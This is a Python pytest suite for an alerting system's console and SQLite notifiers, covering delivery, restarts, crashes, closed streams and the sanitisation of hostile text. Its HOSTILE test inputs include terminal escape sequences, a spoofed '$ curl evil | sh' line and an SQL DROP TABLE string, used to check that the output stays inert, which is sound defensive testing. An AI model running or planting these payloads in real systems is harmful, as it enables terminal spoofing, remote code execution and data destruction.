"""One contract for every place where people look: what a notifier answers, and that hostile text stays text there.

The same cases run over a console and over the messages of a state file. Where the two differ, and may, a case of its
own says so: a terminal cannot be searched, a table can.
"""

from __future__ import annotations

import io
import sqlite3
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from pathlib import Path
from typing import Protocol, TextIO

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerting.adapters.console import ConsoleNotifier
from alerting.adapters.sqlite import SqliteNotifier
from alerting.delivery import (
    SEND_DEADLINE,
    Failed,
    Find,
    Found,
    Ledger,
    Notifier,
    Post,
    Posted,
    SendReply,
    Update,
    deliver,
)
from alerting.lifecycle import Notification, Reply, Slice
from alerting.models import Cause, Incident, Member
from alerting.render import Message, render
from verifier.errors import PlaceUnavailable
from verifier.times import MINUTE

T0 = 1_795_000_000_000_000
DIGEST = "sha256:" + "ab" * 32

HOSTILE = {
    "clear the screen": "\x1b[2J\x1b[31mALL CLEAR\x1b[0m",
    "a link that lies": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "a line of its own": "line\nCRITICAL: fake\r\n$ curl evil | sh",
    "right to left": "\u202egnp.exe",
    "invisible": "pay\u200bments\u2066",
    "C1 controls": "\x9b2J\x85next",
    "half a character": "\ud800",
    "nothing but zeros": "\x00\x00",
    "very long": "x" * 65_536,
    "very wide": "\u6771" * 300,
    "markup of a chat": "<!channel> <@U123> *bold*",
    "SQL": "'); DROP TABLE messages; --",
}


# ------------------------------------------------------------------------------------------------------------- two rigs


class Rig(Protocol):
    """A notifier, what a person has seen of it, and its death."""

    notifier: Notifier

    def seen(self) -> str: ...
    def restart(self) -> None: ...
    def lose_stream(self) -> None: ...
    def close(self) -> None: ...


class ConsoleRig:
    """A terminal. What was printed stays on the screen; a new process knows nothing of it."""

    def __init__(self, _folder: Path) -> None:
        self.paper = io.StringIO()
        self.stream: TextIO = self.paper
        self.restart()

    def restart(self) -> None:
        self.stream = self.paper
        self.notifier: Notifier = ConsoleNotifier(self.stream)

    def lose_stream(self) -> None:
        self.stream = io.StringIO()
        self.stream.close()
        self.notifier = ConsoleNotifier(self.stream)

    def seen(self) -> str:
        return self.paper.getvalue()

    def close(self) -> None:
        """Nothing is held."""


class SqliteRig:
    """The messages of a state file, shown on a terminal whenever somebody looks."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "state.sqlite"
        self.paper = io.StringIO()
        self.connection = sqlite3.connect(self.path, isolation_level=None)
        self._open(self.paper)

    def _open(self, stream: TextIO) -> None:
        self.kept = SqliteNotifier(self.connection, stream)
        self.notifier: Notifier = self.kept

    def restart(self) -> None:
        self.kept.print_waiting()
        self.connection.close()
        self.connection = sqlite3.connect(self.path, isolation_level=None)
        self._open(self.paper)

    def lose_stream(self) -> None:
        stream = io.StringIO()
        stream.close()
        self._open(stream)

    def seen(self) -> str:
        self.kept.print_waiting()
        return self.paper.getvalue()

    def close(self) -> None:
        self.connection.close()


RIGS: dict[str, Callable[[Path], ConsoleRig | SqliteRig]] = {"console": ConsoleRig, "sqlite": SqliteRig}


@pytest.fixture(params=RIGS)
def rig(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Rig]:
    one = RIGS[request.param](tmp_path)
    yield one
    one.close()


@pytest.fixture
def console(tmp_path: Path) -> ConsoleRig:
    return ConsoleRig(tmp_path)


@pytest.fixture
def state_file(tmp_path: Path) -> Iterator[SqliteRig]:
    one = SqliteRig(tmp_path)
    yield one
    one.close()


# ---------------------------------------------------------------------------------------------------------------- calls


def message(text: str = "registry.example.com/pay/api:1", revision: int = 1, containers: int = 3) -> Message:
    """A message about an incident whose every text from outside is `text`."""
    row = Incident(
        id="v1:i",
        short_id="INC-7F3A9K",
        kind="key-revoked",
        subject=text,
        cause=Cause("revocation", text, text, T0, 5),
        policy=text,
        severity="critical",
        state="open" if containers else "resolved",
        epoch=5,
        revision=revision,
        opened=T0,
        changed=T0,
        resolved=None if containers else T0,
        containers=containers,
        workloads=1,
        namespaces=1,
        clusters=1,
        peak_containers=3,
        teams=((text, 3, 1),),
        examples=(Member(text, text, f"Deployment/{text}", text, text, DIGEST, 3, T0),),
        closed=(),
        message=text,
        notes=((T0, text, text),),
        final=True,
    )
    return render(
        Slice(
            incident=row,
            destination="security",
            team="",
            containers=containers,
            workloads=1,
            namespaces=1,
            clusters=1,
            examples=row.examples,
            namespace_table=((text, text, 3, 1),),
        )
    )


def post(delivery: str = "d1", text: Message | None = None, **changes: object) -> Post:
    call = Post(delivery, "security", text or message(), T0 + SEND_DEADLINE)
    return msgspec.structs.replace(call, **changes)


def update(ts: str, text: Message, delivery: str = "d1") -> Update:
    return Update(delivery, "security", text, T0 + SEND_DEADLINE, "any", ts)


def reply(ts: str, name: str = "resolved-2", by: str = "ann", delivery: str = "d1") -> SendReply:
    one = Reply(name, "acknowledged", T0, "critical", 3, by=by)
    return SendReply(delivery, "security", message(), T0 + SEND_DEADLINE, "any", ts, one)


def find(delivery: str = "d1", reply_id: str = "") -> Find:
    return Find(delivery, "security", T0 + SEND_DEADLINE, T0, reply=reply_id)


def posted(answer: object) -> Posted:
    assert isinstance(answer, Posted)
    return answer


# -------------------------------------------------------------------------------------------------------------- answers


def test_a_post_is_seen_and_has_a_name(rig: Rig) -> None:
    """The headline, who is told, and what to do are there; the answer says where it stands."""
    answer = posted(rig.notifier.post(post()))
    assert answer.channel
    assert answer.ts
    seen = rig.seen()
    assert seen.count("to security") == 1
    assert "CRITICAL: image signed with a revoked key" in seen
    assert "$ revet incident show INC-7F3A9K" in seen


def test_names_are_of_the_delivery_and_of_nothing_else(rig: Rig) -> None:
    """The same after a restart, so that a ledger after a crash equals one without; another delivery, another name."""
    first = posted(rig.notifier.post(post()))
    other = posted(rig.notifier.post(post("d2")))
    answer = posted(rig.notifier.reply(reply(first.ts)))
    rig.restart()
    assert posted(rig.notifier.post(post())) == first
    assert posted(rig.notifier.reply(reply(first.ts))) == answer
    assert len({first.ts, other.ts, answer.ts}) == 3


def test_an_update_keeps_the_name_and_tells_the_news(rig: Rig) -> None:
    first = posted(rig.notifier.post(post()))
    rig.seen()
    assert posted(rig.notifier.update(update(first.ts, message(revision=2, containers=1)))) == first
    lines = [line for line in rig.seen().splitlines() if line.startswith("update")]
    assert len(lines) == 1
    assert "CRITICAL" in lines[0]


def test_an_update_below_the_headline_is_worth_no_line(rig: Rig) -> None:
    """A line of a terminal is for what changed; the answer is the same."""
    first = posted(rig.notifier.post(post()))
    before = rig.seen()
    assert posted(rig.notifier.update(update(first.ts, message(revision=2)))) == first
    assert rig.seen() == before


def test_an_update_of_what_this_process_never_posted_is_told(rig: Rig) -> None:
    """After a restart the first edit is told rather than lost."""
    first = posted(rig.notifier.post(post()))
    rig.restart()
    assert posted(rig.notifier.update(update(first.ts, message(revision=2, containers=0)))) == first
    assert "RESOLVED" in rig.seen()


def test_a_reply_says_who_and_what(rig: Rig) -> None:
    first = posted(rig.notifier.post(post()))
    posted(rig.notifier.reply(reply(first.ts)))
    (line,) = [line for line in rig.seen().splitlines() if line.startswith("reply")]
    assert "acknowledged by ann" in line


def test_a_possible_duplicate_says_so(rig: Rig) -> None:
    rig.notifier.post(post(possible_duplicate=True))
    assert "(perhaps shown before)" in rig.seen()


def test_what_was_never_sent_is_not_found(rig: Rig) -> None:
    """Certainly not: nothing can still be under way to a terminal or a table."""
    assert rig.notifier.find(find()) == Found((), certain=True)
    rig.notifier.post(post("d2"))
    assert rig.notifier.find(find("d1")) == Found((), certain=True)
    assert rig.notifier.find(find("d2", "resolved-2")) == Found((), certain=True)


def test_where_notifiers_differ_in_finding(console: ConsoleRig, state_file: SqliteRig) -> None:
    """A terminal cannot be searched, so after a crash a message comes twice rather than never; a table knows."""
    for one in (console, state_file):
        first = posted(one.notifier.post(post()))
        posted(one.notifier.reply(reply(first.ts)))
        one.restart()
    assert console.notifier.find(find()) == Found(())
    assert state_file.notifier.find(find()) == Found((posted(state_file.notifier.post(post())),))
    answer = posted(state_file.notifier.reply(reply("")))
    assert state_file.notifier.find(find(reply_id="resolved-2")) == Found((answer,))


# ---------------------------------------------------------------------------------------------------------- repetitions


def test_where_notifiers_differ_in_repeated_calls(console: ConsoleRig, state_file: SqliteRig) -> None:
    """The same call again, also by another process: a table has one row of it, a terminal prints what it is told."""
    counts = []
    for one in (console, state_file):
        for _ in range(3):
            first = posted(one.notifier.post(post()))
            one.notifier.update(update(first.ts, message(revision=2, containers=1)))
            one.notifier.reply(reply(first.ts))
            one.restart()
        seen = one.seen().splitlines()
        counts.append([sum(line.startswith(word) for line in seen) for word in ("to security", "update", "reply")])
    assert counts == [[3, 3, 3], [1, 1, 1]]
    assert state_file.kept.count() == 3


class Desk:
    """A ledger that is saved after every step, and a clock that stands still."""

    def __init__(self) -> None:
        self.saved: dict[str, bytes] = {}
        self.ledger = Ledger()
        self.shown = message()
        self.now = T0

    def save(self, rows: Mapping[str, bytes]) -> None:
        self.saved.update(rows)

    def want(self, revision: int, containers: int, *replies: Reply) -> None:
        self.shown = message(revision=revision, containers=containers)
        resolved = containers == 0
        self.ledger.accept(
            Notification(
                "v1:i", "security", 1, revision, T0, "critical", paging=True, replies=replies, resolved=resolved
            )
        )

    def tell(self, notifier: Notifier) -> int:
        return deliver(self.ledger, notifier, lambda _i, _d: self.shown, self.save, lambda: self.now)

    def restart(self) -> None:
        self.ledger = Ledger.from_rows(self.saved.items())


def test_a_ledger_tells_each_thing_once_through_every_restart(rig: Rig) -> None:
    """Told, told again, restarted, told again: one message, one line per change, and the ledger is at rest."""
    desk = Desk()
    resolved = Reply("resolved-3", "resolved", T0, "critical", 0)
    for revision, containers, replies in ((1, 3, ()), (2, 1, ()), (3, 0, (resolved,))):
        desk.want(revision, containers, *replies)
        for _ in range(3):
            desk.tell(rig.notifier)
            rig.restart()
            desk.restart()
            desk.want(revision, containers, *replies)
    lines = rig.seen().splitlines()
    assert [sum(line.startswith(w) for line in lines) for w in ("to security", "update", "reply")] == [1, 2, 1]
    assert [row.attempt.state for row in desk.ledger.rows()] == ["closed"]
    assert desk.ledger.next_due() is None


class Cut(Exception):
    """The process died right after the call, before its answer was written down."""


class Dying:
    """Passes calls on, and dies before it gives the answer."""

    def __init__(self, notifier: Notifier) -> None:
        self._notifier = notifier

    def post(self, call: Post) -> Posted | Failed:
        self._notifier.post(call)
        raise Cut

    def update(self, call: Update) -> Posted | Failed:
        self._notifier.update(call)
        raise Cut

    def reply(self, call: SendReply) -> Posted | Failed:
        self._notifier.reply(call)
        raise Cut

    def find(self, call: Find) -> Found | Failed:
        return self._notifier.find(call)


@pytest.mark.parametrize(("name", "times"), [("console", 2), ("sqlite", 1)])
def test_a_death_between_a_message_and_its_answer_never_loses_it(name: str, times: int, tmp_path: Path) -> None:
    """The table is searched and knows; the terminal shows it twice at most."""
    one = RIGS[name](tmp_path)
    desk = Desk()
    for revision, containers, replies in (
        (1, 3, ()),
        (2, 1, ()),
        (3, 1, (Reply("acknowledged-3", "acknowledged", T0, "critical", 1, by="ann"),)),
    ):
        desk.want(revision, containers, *replies)
        with pytest.raises(Cut):
            desk.tell(Dying(one.notifier))
        desk.restart()
        one.restart()
        desk.now += MINUTE
        desk.tell(one.notifier)
    lines = one.seen().splitlines()
    counts = {w: sum(line.startswith(w) for line in lines) for w in ("to security", "update", "reply")}
    assert counts == {"to security": times, "update": times, "reply": times}
    assert desk.ledger.next_due() is None
    one.close()


# --------------------------------------------------------------------------------------------------------- hostile text


def _check_shown(text: str) -> None:
    assert all(character == "\n" or character.isprintable() for character in text)
    assert not [line for line in text.split("\n") if line.startswith(("CRITICAL: fake", "$ curl", "ALL CLEAR"))]
    text.encode("utf-8")


def _tell_everything(one: Rig, text: str) -> str:
    hostile = message(text)
    first = posted(one.notifier.post(post(text=hostile, destination=text)))
    changed = msgspec.structs.replace(hostile, revision=2, headline=message(text, 2, 1).headline)
    posted(one.notifier.update(update(first.ts, changed)))
    posted(one.notifier.reply(reply(first.ts, by=text)))
    return one.seen()


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_text_stays_text(rig: Rig, attack: str) -> None:
    """In every field that comes from outside, the destination and the person who acknowledged too."""
    seen = _tell_everything(rig, HOSTILE[attack])
    _check_shown(seen)
    assert "CRITICAL" in seen
    assert len(seen) < 20_000


@settings(max_examples=60)
@given(text=st.text(max_size=60), name=st.sampled_from(sorted(RIGS)))
def test_any_text_stays_text(tmp_path_factory: pytest.TempPathFactory, text: str, name: str) -> None:
    one = RIGS[name](tmp_path_factory.mktemp("any"))
    with closing(one):
        _check_shown(_tell_everything(one, text))


@pytest.mark.parametrize("attack", HOSTILE)
def test_what_a_file_keeps_is_safe_text_too(state_file: SqliteRig, attack: str) -> None:
    """Whoever prints the table with a tool of their own meets no escape either."""
    _tell_everything(state_file, HOSTILE[attack])
    for headline, text in state_file.connection.execute("SELECT headline, text FROM messages"):
        _check_shown(text)
        assert headline.isprintable()


@pytest.mark.parametrize("name", RIGS)
@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_terminal_of_any_encoding_is_told(name: str, encoding: str, tmp_path: Path) -> None:
    """What its encoding lacks is escaped; the message is there all the same."""
    raw = io.BytesIO()
    with io.TextIOWrapper(raw, encoding=encoding, write_through=True) as terminal:
        if name == "console":
            posted(ConsoleNotifier(terminal).post(post(text=message("\u6771\u4eac"))))
        else:
            with closing(sqlite3.connect(tmp_path / "s.sqlite", isolation_level=None)) as connection:
                kept = SqliteNotifier(connection, terminal)
                posted(kept.post(post(text=message("\u6771\u4eac"))))
                assert kept.print_waiting() == 1
        assert "CRITICAL: image signed with a revoked key" in raw.getvalue().decode(encoding)


# ------------------------------------------------------------------------------------------- streams that are gone


def test_a_message_for_a_closed_stream_is_told_to_the_next_one(rig: Rig) -> None:
    """Nothing is raised, nothing is lost: through the ledger it is seen once, as soon as somebody can see it."""
    desk = Desk()
    desk.want(1, 3)
    rig.lose_stream()
    desk.tell(rig.notifier)
    assert rig.seen() == ""
    rig.restart()
    desk.restart()
    desk.now += MINUTE
    desk.tell(rig.notifier)
    assert rig.seen().count("to security") == 1
    assert desk.ledger.next_due() is None


def test_where_notifiers_differ_on_a_closed_stream(console: ConsoleRig, state_file: SqliteRig) -> None:
    """The terminal has not got it, and says so for every call; the table has it, whoever shows it."""
    console.lose_stream()
    for answer in (
        console.notifier.post(post()),
        console.notifier.update(update("x", message())),
        console.notifier.reply(reply("x")),
    ):
        assert isinstance(answer, Failed)
        assert answer.kind == "not-sent"
    state_file.lose_stream()
    first = posted(state_file.notifier.post(post()))
    assert state_file.kept.print_waiting() == 0
    assert state_file.notifier.find(find()) == Found((first,))


class FullDisk(io.StringIO):
    """A stream whose device takes no more."""

    def write(self, text: str) -> int:
        raise OSError(28, "No space left on device")


def test_a_stream_that_takes_no_more_is_answered(state_file: SqliteRig) -> None:
    answer = ConsoleNotifier(FullDisk()).post(post())
    assert isinstance(answer, Failed)
    assert (answer.kind, "No space left" in answer.detail) == ("not-sent", True)
    kept = SqliteNotifier(state_file.connection, FullDisk())
    posted(kept.post(post()))
    assert kept.print_waiting() == 0
    state_file.restart()
    assert state_file.seen().count("to security") == 1


def test_a_file_that_is_gone_is_answered_not_raised(state_file: SqliteRig) -> None:
    """The port answers instead of raising; only printing, which no ledger waits for, raises, and by name."""
    state_file.connection.close()
    notifier = state_file.notifier
    for answer in (notifier.post(post()), notifier.update(update("x", message())), notifier.reply(reply("x"))):
        assert isinstance(answer, Failed)
        assert answer.kind == "not-sent"
    searched = notifier.find(find())
    assert isinstance(searched, Failed)
    assert searched.kind == "unavailable"
    with pytest.raises(PlaceUnavailable, match="messages cannot be read"):
        state_file.kept.print_waiting()
    with pytest.raises(PlaceUnavailable, match="messages cannot be kept"):
        SqliteNotifier(state_file.connection)


def test_a_message_of_a_batch_that_was_taken_back_was_never_sent(state_file: SqliteRig) -> None:
    """The row and the ledger's step are one transaction: neither is there without the other."""
    state_file.connection.execute("BEGIN")
    posted(state_file.notifier.post(post()))
    state_file.connection.execute("ROLLBACK")
    assert state_file.seen() == ""
    assert state_file.notifier.find(find()) == Found((), certain=True)
